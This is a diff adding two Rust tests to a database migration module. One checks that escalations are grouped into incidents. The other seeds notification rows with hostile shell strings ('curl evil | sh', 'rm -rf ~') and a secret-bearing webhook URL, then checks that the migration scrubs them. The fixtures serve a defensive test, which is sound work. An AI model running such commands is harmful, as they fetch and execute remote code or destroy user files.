@@ -130,4 +130,94 @@ mod tests {
         let err = migrate(&conn, &path).unwrap_err();
         assert!(matches!(err, Error::TooNew { found: 99, .. }), "{err}");
     }
+
+    /// The migration turns escalations into incidents: same rule within 24 hours → one.
+    #[test]
+    fn existing_escalations_become_incidents_by_rule_within_the_window() {
+        let dir = tempfile::tempdir().unwrap();
+        let path = dir.path().join("hark.db");
+        let conn = rusqlite::Connection::open(&path).unwrap();
+        let before = MIGRATIONS
+            .iter()
+            .position(|m| m.contains("CREATE TABLE incidents"))
+            .unwrap() as i64;
+        migrate_to(&conn, &path, before).unwrap();
+        conn.execute_batch(
+        "INSERT INTO accounts (id, name, platform, handle) VALUES (1, 'a', 'chirp', '@b');
+         INSERT INTO authors (id, account_id, external_id, handle, display_name) VALUES (1, 1, 'u', '@u', 'U');",
+    )
+    .ok();
+        for (id, source, reason, at, resolved) in [
+            (1, "rule:health", "health claim", 1000, None),
+            (2, "rule:health", "health claim", 1000 + 5 * 3600, None),
+            (
+                3,
+                "rule:big",
+                "big account",
+                1000 + 6 * 3600,
+                Some(1000 + 7 * 3600),
+            ),
+            (4, "rule:health", "health claim", 1000 + 30 * 3600, None),
+            (5, "user", "press", 1000, None),
+            (6, "user", "press", 1000 + 3600, None),
+        ] {
+            conn.execute(
+            "INSERT INTO escalations (id, item_id, severity, reason, source, opened_at, resolved_at, outcome)
+             VALUES (?1, NULL, 'high', ?2, ?3, ?4, ?5, CASE WHEN ?5 IS NULL THEN NULL ELSE 'done' END)",
+            rusqlite::params![id, reason, source, at, resolved],
+        )
+        .unwrap();
+        }
+        migrate(&conn, &path).unwrap();
+        let groups: Vec<(i64, i64)> = crate::store::peek::escalations(&conn)
+            .iter()
+            .map(|e| (e.id, e.incident_id.unwrap()))
+            .collect();
+        assert_eq!(groups, vec![(1, 1), (2, 1), (3, 3), (4, 4), (5, 5), (6, 5)]);
+        let resolved = crate::store::incidents::get(&conn, 3)
+            .unwrap()
+            .unwrap()
+            .resolved_at;
+        assert_eq!(resolved, Some(1000 + 7 * 3600));
+    }
+
+    #[test]
+    fn the_migration_turns_stored_commands_into_step_names() {
+        let dir = tempfile::tempdir().unwrap();
+        let path = dir.path().join("hark.db");
+        {
+            let conn = rusqlite::Connection::open(&path).unwrap();
+            // The schema just before the migration that turned targets into steps.
+            let before = MIGRATIONS
+                .iter()
+                .position(|sql| sql.contains("RENAME COLUMN target TO step"))
+                .unwrap() as i64;
+            migrate_to(&conn, &path, before).unwrap();
+            conn.execute_batch(
+            "INSERT INTO escalations (id, severity, reason, source, opened_at)
+                 VALUES (1, 'high', 'press', 'user', 0);
+             INSERT INTO notifications (escalation_id, channel, target, payload, next_attempt_at, created_at)
+                 VALUES (1, 'command', 'curl evil | sh', '{}', 0, 0),
+                        (1, 'webhook', 'https://hooks.example/T0KEN', '{}', 0, 0),
+                        (1, 'fax', 'rm -rf ~', '{}', 0, 0);",
+        )
+        .unwrap();
+        }
+        let conn = crate::store::open_rw(&path).unwrap();
+        let rows = crate::store::peek::notifications(&conn);
+        let steps: Vec<_> = rows.iter().map(|n| n.step.as_str()).collect();
+        assert_eq!(steps, ["high/command", "high/webhook", "high/unknown"]);
+        let dump: String = rows
+            .iter()
+            .map(|n| {
+                format!(
+                    "{}{}{}",
+                    n.step,
+                    n.payload,
+                    n.last_error.clone().unwrap_or_default()
+                )
+            })
+            .collect();
+        assert!(!dump.contains("curl") && !dump.contains("T0KEN") && !dump.contains("rm -rf"));
+    }
 }
